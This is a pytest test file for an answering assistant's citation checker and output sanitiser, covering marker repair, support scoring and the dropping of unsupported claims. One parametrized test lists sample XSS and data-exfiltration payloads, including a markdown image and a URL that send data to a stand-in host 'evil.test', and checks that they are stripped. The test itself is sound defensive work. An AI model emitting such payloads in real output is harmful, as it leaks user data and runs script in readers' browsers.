"""Citation repair, support scoring and output sanitising (hash embedder, no model)."""

from __future__ import annotations

import pytest

from assistant.answering.scorer import SentenceScorer
from assistant.answering.verify import check_citations, parse_markers, sanitize
from assistant.index.embeddings import HashEmbedder
from tests.factories import source

SOURCES = [
    source(
        1,
        "p1",
        "Propagation failures in PINNs",
        [
            "PINNs can fail to converge on complicated PDEs.",
            "We propose R3 sampling to mitigate propagation failures.",
        ],
    ),
    source(
        2,
        "p2",
        "Mixed precision training",
        [
            "Mixed precision training on Nvidia GPUs saved 11 Watts of power.",
        ],
    ),
]


@pytest.fixture
def scorer() -> SentenceScorer:
    return SentenceScorer(HashEmbedder())


def test_markers_outside_the_retrieved_set_are_removed(scorer: SentenceScorer) -> None:
    text, cits = check_citations(
        "R3 sampling mitigates propagation failures [7].", SOURCES, scorer, 0.45
    )
    assert "[7]" not in text
    # The orphaned sentence is re-attached to the source that supports it.
    assert text == "R3 sampling mitigates propagation failures [1]."
    assert [(c.number, c.supported) for c in cits] == [(1, True)]


def test_uncited_sentence_gets_marker_when_it_matches(scorer: SentenceScorer) -> None:
    text, cits = check_citations(
        "Mixed precision training on Nvidia GPUs saved 11 Watts. The sky is green today.",
        SOURCES,
        scorer,
        0.45,
    )
    assert text == "Mixed precision training on Nvidia GPUs saved 11 Watts [2]."  # sky: dropped
    assert [c.number for c in cits] == [2]
    assert cits[0].snippet.startswith("Mixed precision training on Nvidia GPUs saved 11 Watts")


def test_weak_citation_is_flagged_unsupported(scorer: SentenceScorer) -> None:
    text, cits = check_citations("Training uses GPUs for PDEs [2].", SOURCES, scorer, 0.6)
    assert text == "Training uses GPUs for PDEs [2]."
    assert len(cits) == 1 and cits[0].number == 2 and not cits[0].supported
    assert cits[0].support < 0.6


def test_wrong_citation_is_repointed_to_the_supporting_paper(scorer: SentenceScorer) -> None:
    text, cits = check_citations(
        "PINNs can fail to converge on complicated PDEs [2].", SOURCES, scorer, 0.45
    )
    assert text == "PINNs can fail to converge on complicated PDEs [1]."
    assert [(c.number, c.supported) for c in cits] == [(1, True)]


def test_marker_after_full_stop_stays_with_its_sentence(scorer: SentenceScorer) -> None:
    text, cits = check_citations(
        "PINNs can fail to converge. [1] Mixed precision saved 11 Watts. [2]", SOURCES, scorer, 0.3
    )
    assert text == "PINNs can fail to converge [1]. Mixed precision saved 11 Watts [2]."
    assert [c.number for c in cits] == [1, 2] and all(c.supported for c in cits)


def test_repeats_and_wordless_fragments_are_dropped(scorer: SentenceScorer) -> None:
    loop = "PINNs can fail to converge [1]. " * 5 + "\n1. [2]\n"
    text, cits = check_citations(loop, SOURCES, scorer, 0.45)
    assert text == "PINNs can fail to converge [1]."
    assert len(cits) == 1


@pytest.mark.parametrize(
    ("marker", "numbers"),
    [("[1]", [1]), ("[1, 2]", [1, 2]), ("[1-3]", [1, 2, 3]), ("[2][2]", [2]), ("[1; 4]", [1, 4])],
)
def test_parse_markers(marker: str, numbers: list[int]) -> None:
    assert parse_markers(f"claim {marker}") == numbers


@pytest.mark.parametrize(
    "payload",
    [
        "![x](http://evil.test/?q=SECRET)",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "[link](javascript:alert(1))",
        "see http://evil.test/exfil?d=1",
    ],
)
def test_sanitize_removes_exfiltration_and_script(payload: str) -> None:
    out = sanitize(f"Answer {payload} end")
    assert "evil.test" not in out and "javascript:" not in out
    assert "<script" not in out and "onerror" not in out
    assert out.startswith("Answer") and out.endswith("end")


def test_invented_numbers_are_not_supported(scorer: SentenceScorer) -> None:
    _, good = check_citations(
        "Mixed precision training on Nvidia GPUs saved 11 Watts [2].", SOURCES, scorer, 0.45
    )
    _, bad = check_citations(
        "Mixed precision training on Nvidia GPUs saved 47 Watts [2].", SOURCES, scorer, 0.45
    )
    assert good[0].supported and not bad[0].supported
    assert bad[0].support < good[0].support / 2


def test_list_bullets_are_not_part_of_the_claim(scorer: SentenceScorer) -> None:
    text, cits = check_citations(
        "1) PINNs can fail to converge on complicated PDEs [1]\n"
        "- Mixed precision saved 11 Watts [2]",
        SOURCES,
        scorer,
        0.45,
    )
    assert [(c.number, c.supported) for c in cits] == [(1, True), (2, True)]
    assert text.splitlines() == [
        "PINNs can fail to converge on complicated PDEs [1]",
        "Mixed precision saved 11 Watts [2]",
    ]
